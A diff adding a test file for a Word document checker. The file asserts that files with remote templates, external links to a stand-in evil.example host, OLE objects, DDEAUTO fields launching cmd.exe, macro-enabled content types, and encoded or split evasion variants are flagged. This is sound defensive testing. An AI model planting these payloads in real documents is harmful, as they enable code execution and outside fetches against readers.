@@ -1,0 +1,87 @@
+import { expect, test } from "vitest";
+import { docxFile } from "../../test/support/zip-file.ts";
+import { checkDocx } from "./check-docx.ts";
+
+const KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+const relationship = (kind: string, target: string, more = "") =>
+  `<Relationship Id="rId1" Type="${KINDS}/${kind}" Target="${target}" ${more}/>`;
+const OUTSIDE = 'TargetMode="External"';
+const withLinks = (link: string, name = "word/_rels/document.xml.rels") =>
+  checkDocx(
+    docxFile({
+      name,
+      content: `<?xml version="1.0" encoding="UTF-8"?><Relationships>${link}</Relationships>`,
+    }),
+  );
+const withText = (text: string, name = "word/footer1.xml") => checkDocx(docxFile({ name, content: text }));
+
+test.each([
+  ["a template of another computer", relationship("attachedTemplate", "\\\\evil.example\\a.dotm", OUTSIDE)],
+  ["a template by the web", relationship("attachedTemplate", "https://evil.example/a.dotm", OUTSIDE)],
+  ["a picture by the web", relationship("image", "https://evil.example/a.png", OUTSIDE)],
+  [
+    "a picture of another computer that is called the document's own",
+    relationship("image", "//evil.example/a.png"),
+  ],
+  ["a frame", relationship("frame", "https://evil.example/", OUTSIDE)],
+  ["a document inside", relationship("subDocument", "a.docx", OUTSIDE)],
+  ["another program's object under any name", relationship("oleObject", "media/image1.bin")],
+  ["a packed file", relationship("package", "media/a.xlsx")],
+  ["a control", relationship("control", "media/a.xml")],
+  ["text in another format", relationship("aFChunk", "a.html")],
+  ["a link that opens a file", relationship("hyperlink", "file:///C:/Windows/cmd.exe", OUTSIDE)],
+  ["a link to another computer", relationship("hyperlink", "\\\\evil.example\\a", OUTSIDE)],
+  [
+    "a kind written in codes",
+    `<Relationship Id="a" Type="${KINDS}/attached&#84;emplate" Target="https://evil.example/" TargetMode='External'/>`,
+  ],
+  [
+    "a mode written in codes",
+    `<x:Relationship Id="a" Type="${KINDS}/image" Target="&#104;ttps://evil.example/" TargetMode="Exter&#x6e;al"/>`,
+  ],
+])("%s is refused", (_, link) => {
+  expect(withLinks(link)).toBe("has-scripts");
+  expect(withLinks(link, "word/_rels/settings.xml.rels")).toBe("has-scripts");
+  expect(withLinks(link, "_rels/.rels")).toBe("has-scripts");
+});
+
+test.each([
+  ["a program that starts", '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>'],
+  [
+    "one in pieces",
+    "<w:instrText> DD</w:instrText><w:r/><w:instrText xml:space='preserve'>EAUTO x</w:instrText>",
+  ],
+  ["one in short form", `<w:fldSimple w:instr=' DDE Excel "a" '/>`],
+  ["one under another prefix", "<a:instrText>DDE x y</a:instrText>"],
+  ["a picture that is fetched", `<w:instrText>INCLUDEPICTURE "https://evil.example/a.png"</w:instrText>`],
+  ["a text that is fetched", `<w:instrText>&#73;NCLUDETEXT "\\\\evil\\a"</w:instrText>`],
+  ["a part of another document", "<w:instrText>LINK Excel.Sheet.8 a.xls</w:instrText>"],
+])("%s as a field is refused", (_, text) => {
+  expect(withText(text)).toBe("has-scripts");
+});
+
+test("parts that say they are macros or objects are refused, and what is written so that it cannot be read too", () => {
+  const types = (content: string) => withText(content, "[Content_Types].xml");
+  expect(
+    types(
+      '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
+    ),
+  ).toBe("has-scripts");
+  expect(
+    types('<Default Extension="dat" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'),
+  ).toBe("has-scripts");
+  expect(withText("<!DOCTYPE a [<!ENTITY b 'DDE'>]><w:instrText>&b; x</w:instrText>")).toBe("unreadable");
+  expect(withText('<?xml version="1.0" encoding="UTF-16"?><a/>')).toBe("unreadable");
+});
+
+test("what Word writes by itself, and links to web pages and addresses, are taken", () => {
+  const links = [
+    relationship("styles", "styles.xml"),
+    relationship("image", "media/photo.png"),
+    relationship("hyperlink", "https://www.example.org/rina", OUTSIDE),
+    relationship("hyperlink", "mailto:rina@example.com", OUTSIDE),
+  ];
+  expect(withLinks(links.join(""))).toBeNull();
+  const fields = ' PAGE  </w:instrText><w:instrText> HYPERLINK "https://www.example.org/link" </w:instrText>';
+  expect(withText(`<w:instrText>${fields}<w:t>The rest of DDE and a link to include.</w:t>`)).toBeNull();
+});
